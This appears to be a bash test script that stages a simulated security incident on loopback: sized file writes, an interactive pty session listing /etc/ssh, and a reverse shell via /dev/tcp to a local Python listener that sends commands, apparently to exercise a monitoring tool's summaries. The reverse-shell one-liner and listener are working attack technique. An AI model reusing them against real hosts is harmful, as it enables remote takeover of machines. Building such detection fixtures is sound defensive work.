#!/usr/bin/env bash
# A scripted incident for the summary samples: a known amount of file I/O
# (1 MiB to one file, 10 KiB to another), an interactive shell session on
# a pseudo-terminal typing a few commands, and a reverse shell to a
# listener on loopback that sends commands and reads their output.
set -u
dir=$(mktemp -d /tmp/scry-incident.XXXXXX)
cd "$dir" || exit 1

# File I/O with exact sizes: 16 writes of 64 KiB, then one of 10 KiB.
dd if=/dev/zero of="$dir/big.bin" bs=65536 count=16 status=none
head -c 10240 /dev/zero > "$dir/small.bin"

# An interactive session: bash on a pseudo-terminal (as over ssh), with
# commands typed one by one.
script -qfec "bash --norc --noprofile -i" /dev/null > /dev/null <<'SESSION'
cd /tmp
whoami
ls -a /etc/ssh
cat /etc/hostname
exit
SESSION

# A reverse shell: sh with its input and output on a TCP connection to a
# listener that sends two commands and reads what comes back.
port_file="$dir/port"
/usr/bin/python3 -S - "$port_file" <<'LISTENER' &
import socket, sys
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
with open(sys.argv[1], "w") as f:
    f.write(str(server.getsockname()[1]))
conn, _ = server.accept()
conn.sendall(b"id\n")
conn.sendall(b"echo owned > /tmp/.x; exit\n")
while conn.recv(4096):
    pass
conn.close()
LISTENER
listener=$!
for _ in $(seq 100); do [[ -s $port_file ]] && break; sleep 0.02; done
port=$(cat "$port_file")
bash -c "exec sh -i <>/dev/tcp/127.0.0.1/$port >&0 2>&0"
wait "$listener"
rm -f /tmp/.x
cd / && rm -rf "$dir"
